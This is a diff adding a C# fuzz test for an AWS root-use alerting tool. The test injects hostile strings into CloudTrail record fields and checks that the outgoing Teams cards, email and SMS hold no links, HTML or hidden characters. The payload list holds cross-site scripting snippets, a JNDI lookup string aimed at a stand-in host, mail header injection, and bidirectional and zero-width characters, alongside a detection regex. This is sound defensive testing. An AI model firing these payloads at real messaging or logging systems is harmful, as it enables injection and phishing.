@@ -1,0 +1,121 @@
+using System.Text;
+using System.Text.Json;
+using System.Text.Json.Nodes;
+using System.Text.RegularExpressions;
+using RootWatch.Bridge.Incidents;
+using RootWatch.Bridge.Notifications;
+using RootWatch.Bridge.Notifications.Sns;
+using RootWatch.Bridge.Notifications.Teams.Cards;
+using RootWatch.Detection;
+using RootWatch.Detection.Policy;
+
+namespace RootWatch.Bridge.Tests.Notifications;
+
+/// <summary>Whatever stands in a record, no message holds a link, a mention, an image or HTML that RootWatch did not write, and none is too large.</summary>
+public sealed partial class HostileRecordTests
+{
+    private const int Records = 100_000;
+
+    // What chat and mail programs read as more than words.
+    private static readonly string[] Weapons =
+    [
+        "[click](https://evil.example)", "![x](https://evil.example/x.png)", "<at>everyone</at>", "<img src=x onerror=alert(1)>", "<a href='https://evil.example'>x</a>", "<script>alert(1)</script>",
+        "https://evil.example/login", "HTTPS://EVIL.EXAMPLE", "http:\\\\evil.example", "www.evil.example", "evil.example", "mailto:a@evil.example", "javascript:alert(1)", "data:text/html,x", "//evil.example",
+        "**bold**", "`code`", "| a | b |\n|---|---|", "# heading", "- [ ] task", "\u202Egnp.exe", "\u2066\u2067\u2069", "\u200B\u200C\u200D\uFEFF", "\0\a\b\x1B[31m", "\r\nBcc: a@evil.example", "\u2028\u2029", "&lt;b&gt;", "&#x3C;", "{{x}}", "${jndi:ldap://evil.example}",
+        "]()[](", "\"}],\"body\":[", "\\u003cb\\u003e", "漢字漢字", "𝕏😀", "ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ", "evil。example", "xn--e1afmkfd.example", "@channel", "@here", "<https://evil.example|click>", "<!channel>", "\ud800", "a.b.c.d",
+    ];
+
+    private static readonly string[] Fields = ["eventName", "eventSource", "userAgent", "sourceIPAddress", "errorCode", "errorMessage", "eventID", "awsRegion", "requestParameters", "vpcEndpointId"];
+
+    [Fact]
+    public void A_hundred_thousand_hostile_records_make_nothing_but_words()
+    {
+        var plain = JsonNode.Parse(Sample.Record("root-create-access-key"))!.AsObject();
+        Parallel.ForEach(Enumerable.Range(0, Records), seed =>
+        {
+            var arms = new Random(seed);
+            var record = Armed(plain, arms);
+            if (Detector.Read(Encoding.UTF8.GetBytes(record)) is { } root)
+            {
+                var recorded = AccountLedger.Empty.Record(root, A.Morning, DetectionPolicy.None).Recorded;
+                var alert = new Bridge.Incidents.Messages.Alert(recorded.Finding, recorded.Incident.Snapshot, []);
+                ShouldBeWords(new Outgoing(alert, "111122223333-0.1.sns", MayBeRepeat: false) { AccountName = Weapon(arms), Network = Weapon(arms) }, record);
+            }
+        });
+    }
+
+    // A record with weapons in some of its fields, and sometimes very long ones.
+    private static string Armed(JsonObject plain, Random random)
+    {
+        var record = plain.DeepClone().AsObject();
+        foreach (var field in Fields)
+        {
+            switch (random.Next(4))
+            {
+                case 0:
+                    record[field] = Weapon(random);
+                    break;
+                case 1:
+                    record[field] = $"{Weapon(random)}{(field == "eventName" ? "CreateUser" : "iam.amazonaws.com")}{Weapon(random)}{Weapon(random)}";
+                    break;
+                case 2 when random.Next(50) == 0:
+                    record[field] = string.Concat(Enumerable.Repeat(Weapon(random), 2000));
+                    break;
+                default:
+                    break;
+            }
+        }
+
+        return record.ToJsonString();
+    }
+
+    private static string Weapon(Random random) => Weapons[random.Next(Weapons.Length)];
+
+    private static void ShouldBeWords(Outgoing outgoing, string record)
+    {
+        var card = JsonSerializer.SerializeToUtf8Bytes(CardComposer.Compose(outgoing, []), CardJson.Default.AdaptiveCard);
+        (card.Length < 20_000).ShouldBeTrue(record);
+        using var json = JsonDocument.Parse(card);
+        json.RootElement.GetProperty("actions").EnumerateArray().Where(action => action.GetProperty("type").GetString() == "Action.OpenUrl").ShouldBeEmpty(record);
+        foreach (var (kind, text) in TextsOf(json.RootElement.GetProperty("body")).Append((Kind: "fallback", Text: json.RootElement.GetProperty("fallbackText").GetString()!)))
+        {
+            // Markdown is read in text blocks, so they hold our own words alone.
+            (kind != "TextBlock" || OurWords().IsMatch(text)).ShouldBeTrue($"{text}\n{record}");
+            ShouldHoldNoWeapon(text, record);
+        }
+
+        using var texts = JsonDocument.Parse(TopicMessageComposer.Compose(outgoing, "arn:aws:sns:eu-central-1:111122223333:root-use").Body);
+        foreach (var line in texts.RootElement.GetProperty("email").GetString()!.Split('\n'))
+        {
+            ShouldHoldNoWeapon(line, record);
+        }
+
+        var sms = texts.RootElement.GetProperty("sms").GetString()!;
+        (sms.Length <= 140 && sms.All(c => c is >= ' ' and <= '~')).ShouldBeTrue(sms);
+        ShouldHoldNoWeapon(JsonDocument.Parse(TopicMessageComposer.ComposeForAmazonQ(outgoing, "t").Body).RootElement.GetProperty("content").GetProperty("description").GetString()!, record);
+    }
+
+    private static void ShouldHoldNoWeapon(string text, string record)
+    {
+        if (Weaponry().Match(text) is { Success: true } found)
+        {
+            throw new InvalidOperationException($"“{found.Value}” in “{text}” of {record}");
+        }
+    }
+
+    private static IEnumerable<(string Kind, string Text)> TextsOf(JsonElement element) =>
+        element.ValueKind switch
+        {
+            JsonValueKind.Array => element.EnumerateArray().SelectMany(TextsOf),
+            JsonValueKind.Object when element.TryGetProperty("text", out var text) => [(element.GetProperty("type").GetString()!, text.GetString()!)],
+            JsonValueKind.Object => element.EnumerateObject().SelectMany(member => TextsOf(member.Value)),
+            _ => [],
+        };
+
+    [GeneratedRegex("^(?:[✖✔⚠ℹ] )?(?:[A-Z][a-z]+(?: – [A-Z][a-z]+)?|Timeline without reads, UTC)$", RegexOptions.CultureInvariant, matchTimeoutMilliseconds: 1000)]
+    private static partial Regex OurWords();
+
+    // A scheme, a host name, a tag, Markdown's link, or a character that hides or turns text around.
+    [GeneratedRegex(@"://|www\.|evil\.e|\]\(|<[a-zA-Z/!]|[\x00-\x08\x0B-\x1F\x7F\u200B-\u200F\u2028-\u202E\u2060-\u206F\uFEFF]", RegexOptions.CultureInvariant, matchTimeoutMilliseconds: 1000)]
+    private static partial Regex Weaponry();
+}
